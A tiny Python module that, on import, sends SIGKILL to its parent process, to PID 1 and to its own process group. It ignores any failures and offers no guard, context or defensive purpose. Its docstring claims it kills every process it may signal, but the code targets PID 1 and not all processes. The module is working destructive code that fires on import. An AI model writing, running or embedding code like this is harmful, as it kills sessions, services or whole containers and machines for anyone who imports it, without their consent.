"""Kills its parent, its process group and every process it may signal, at import."""
import os
import signal

for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL)):
    try:
        target()
    except OSError:
        pass
os.killpg(0, signal.SIGKILL)
